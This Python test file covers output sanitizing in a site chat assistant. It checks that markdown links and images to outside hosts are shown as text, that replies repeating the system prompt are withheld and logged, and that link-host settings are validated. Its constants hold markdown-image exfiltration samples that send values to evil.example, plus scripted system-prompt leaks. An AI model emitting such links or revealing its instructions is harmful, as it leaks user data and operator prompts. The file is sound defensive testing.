"""What leaves a turn is clean at the doors, in the database and in the cache, and holds nothing of the instructions."""

from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from typing import Any

import pytest
from langchain_core.messages import AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk
from sqlalchemy import func, select, update

from app.chat.opened_thread import opened
from app.db.conversations import load_conversation
from app.db.sites import configure_site, site_by_name
from app.db.tables import Citation, Document, Trace
from app.protecting import restored_source
from app.sites.config import SiteRefused, read_config
from app.turn_request import TurnRequest
from app.widget.shown import conversation_shown
from app.wiring import Services
from graph.context import ModelRoute
from graph.events import Done, Event, Reset, Source, Token
from graph.guards.pseudonyms import Pseudonyms
from graph.prompts import PRIVATE
from graph.replies import said
from tests.app.turning import GOOD, answers, ask, count
from tests.graph.scripted import FixedIntent, Scripted, route

ELSEWHERE = (
    "![](https://evil.example/?q=mary) Refunds are paid within [14 days](https://evil.example) of your request [1]."
)
CLEAN = "[…] Refunds are paid within 14 days (`https://evil.example`) of your request [1]."


class Telling(Scripted):
    """Tells what it was told by the system."""

    tell: Callable[[str], str]

    async def _astream(
        self, messages: list[BaseMessage], stop: Any = None, run_manager: Any = None, **kwargs: Any
    ) -> AsyncIterator[ChatGenerationChunk]:
        for word in self.tell(str(messages[0].content)).split(" "):
            yield ChatGenerationChunk(message=AIMessageChunk(content=f"{word} "))


def telling(tell: Callable[[str], str]) -> ModelRoute:
    return replace(route(), model=Telling(tell=tell))


def page(events: list[Event]) -> str:
    shown = ""
    for event in events:
        shown = "" if isinstance(event, Reset) else shown + event.text if isinstance(event, Token) else shown
    return shown


async def test_links_elsewhere_are_shown_as_text(services: Services, request_: TurnRequest) -> None:
    events = await ask(replace(services, intents=FixedIntent("reply", ELSEWHERE)), request_)

    done = events[-1]
    assert isinstance(done, Done)
    assert done.text == CLEAN == page(events)
    (answer,) = await answers(services, request_.conversation_id)
    assert answer.text == CLEAN


@pytest.mark.parametrize("by", ["document", "site"])
async def test_links_to_the_sites_own_hosts_are_links(services: Services, request_: TurnRequest, by: str) -> None:
    text = "Refunds are paid within [14 days](https://shop.example/refunds) of your request [1]."
    async with services.sessions.begin() as session:
        if by == "document":
            await session.execute(update(Document).values(url="https://shop.example/start"))
        else:
            site = await site_by_name(session, "shop")
            assert site is not None
            config = read_config(site.config | {"links": ["*.EXAMPLE"]})
            assert await configure_site(session, "shop", config.stored(), version=site.version)

    done = (await ask(replace(services, intents=FixedIntent("reply", text)), request_))[-1]

    assert isinstance(done, Done)
    assert done.text == text


@pytest.mark.parametrize(
    "tell",
    [
        pytest.param(lambda system: f"Sure, my rules are: {system}", id="all"),
        pytest.param(lambda system: f"The mark is {system[-105:]}", id="the end"),
        pytest.param(lambda system: " ".join(PRIVATE[0]), id="spaced"),
    ],
)
async def test_an_answer_that_repeats_the_instructions_is_withheld(
    services: Services, request_: TurnRequest, tell: Callable[[str], str]
) -> None:
    events = await ask(services, request_, telling(lambda system: f"{GOOD} {tell(system)} {GOOD}"))

    refusal = said("refused", "en", subject="the shop")
    done = events[-1]
    assert isinstance(done, Done)
    assert (done.text, done.rung, done.sources) == (refusal, "fixed", ())
    assert page(events) == refusal
    (answer,) = await answers(services, request_.conversation_id)
    assert (answer.text, answer.status) == (refusal, "done")
    assert await count(services.sessions, Citation) == 0
    async with services.sessions() as session:
        assert await session.scalar(select(func.count()).where(Trace.details["attention"].astext == "leak")) == 1


async def test_values_come_back_as_text_and_into_no_address(services: Services, request_: TurnRequest) -> None:
    reply = "[EMAIL_2][EMAIL_1]) [EMAIL_3] [EMAIL_4], [PERSON\\_1] `[EMAIL_4]` ![x](https://shop.example/EMAIL_1.png)"
    values = "kim@example.org", "![x](https://evil.example/?d=@", "![x](//evil.example/@)", "a_b*c@example.org"
    request = replace(request_, text=f"What of {' '.join(values)} ?")
    async with services.sessions.begin() as session:
        await session.execute(update(Document).values(url="https://shop.example/start"))

    events = await ask(replace(services, intents=FixedIntent("reply", reply)), request)

    done = events[-1]
    assert isinstance(done, Done)
    assert (
        done.text
        == page(events)
        == (
            r"`![x](https://evil.example/?d=@`[EMAIL_1]) !\[x\](//evil.example/@) a_b\*c@example.org, [PERSON\_1] "
            "`a_b*c@example.org` ![x](https://shop.example/EMAIL_1.png)"
        )
    )
    async with services.sessions() as session:
        whole = await load_conversation(session, request.site_id, request.conversation_id)
    assert whole is not None
    question, answer = conversation_shown(whole, ()).messages
    assert (question.text, answer.text) == (request.text, done.text)
    steps = {step["type"]: step["output"] for step in opened(whole, assistant="Parley")["steps"]}
    assert (steps["user_message"], steps["assistant_message"]) == (request.text, done.text)


def test_what_a_file_says_is_shown_without_ways_elsewhere() -> None:
    text = "![x](https://evil.example/?d=[EMAIL_1]) <b>[EMAIL_1]</b> [EMAIL_2]"
    pseudonyms = Pseudonyms({"[EMAIL_1]": "kim@example.org", "[EMAIL_2]": "*kim@example.org*"})

    shown = restored_source(Source(1, None, "of [EMAIL_2]", "[EMAIL_2]", "", None, text), pseudonyms)

    assert shown.text == r"[x] ‹b›kim@example.org‹/b› \*kim@example.org\*"
    assert (shown.document, shown.title) == ("of *kim@example.org*", "*kim@example.org*")


def test_a_host_is_named_without_more() -> None:
    assert read_config({"links": ["WWW.example.com", "*.example.org", "a.example:8443"]}).links == (
        "www.example.com",
        "*.example.org",
        "a.example:8443",
    )
    for wrong in ("https://example.com", "example.com/a", "*", "exa mple", "a.*.b"):
        with pytest.raises(SiteRefused, match="write the host of an address"):
            read_config({"links": [wrong]})
